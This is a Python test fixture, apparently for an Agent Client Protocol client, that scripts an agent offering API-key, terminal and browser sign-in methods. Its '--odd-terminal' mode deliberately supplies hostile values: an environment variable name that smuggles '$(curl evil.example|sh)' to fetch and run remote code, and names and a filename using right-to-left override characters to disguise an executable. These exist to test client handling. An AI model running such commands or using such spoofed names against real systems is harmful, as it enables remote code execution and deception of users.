"""Signs in with an environment variable, as codex-acp and gemini do with their API keys.

`initialize` offers three methods: `api-key` (type env_var: SCRIPTED_API_KEY), `login` (type terminal:
the user runs this agent with `--login`) and `browser` (the agent's own, whose `authenticate` never
answers, like a browser login nobody completes). `session/new` fails with -32000 until the agent was
started with SCRIPTED_API_KEY set and `authenticate` named `api-key`. A prompt is answered with the
last four characters of the key.

With `--odd-terminal`, the terminal method also names variables no shell takes as they are (shell code, a
right-to-left override, `A=B`) and an argument with a right-to-left override, and the API key method asks
for two variables no process can be given as named (`A=B`, one with a right-to-left override).
"""

from __future__ import annotations

import os
import sys
from typing import Any

import wire

KEY = os.environ.get("SCRIPTED_API_KEY", "")
METHODS: list[dict[str, Any]] = [
    {
        "type": "env_var",
        "id": "api-key",
        "name": "Use an API key",
        "description": "Get a key from your account page",
        "vars": [{"name": "SCRIPTED_API_KEY", "label": "API key"}],
        "link": "https://example.invalid/keys",
    },
    {"type": "terminal", "id": "login", "name": "Log in from a terminal", "args": ["--login"]},
    {"id": "browser", "name": "Log in with a browser"},
]
if "--odd-terminal" in sys.argv:
    METHODS[1]["env"] = {
        "LOGIN_MODE": "device",
        "$(curl evil.example|sh)": "1",
        "SAFE\u202eEMAN": "x",
        "A=B": "c",
    }
    METHODS[1]["args"] = ["--login", "--out=invoice_\u202efdp.exe"]
    METHODS[0]["vars"] = [*METHODS[0]["vars"], {"name": "A=B"}, {"name": "KEY\u202eX"}]

signed_in = False
while (msg := wire.read()) is not None:
    method = msg.get("method")
    if method == "initialize":
        wire.respond(msg, wire.initialize_result(authMethods=METHODS))
    elif method == "authenticate":
        method_id = msg["params"].get("methodId")
        if method_id == "browser":
            continue  # waits for a login that never comes
        if method_id == "api-key" and KEY:
            signed_in = True
            wire.respond(msg, {})
        else:
            wire.error(msg, -32000, "SCRIPTED_API_KEY is not set")
    elif method == "session/new":
        if signed_in:
            wire.respond(msg, {"sessionId": "key-1"})
        else:
            wire.error(msg, -32000, "Authentication required")
    elif method == "session/prompt":
        wire.say("key-1", f"signed in with a key ending {KEY[-4:]}")
        wire.respond(msg, {"stopReason": "end_turn"})
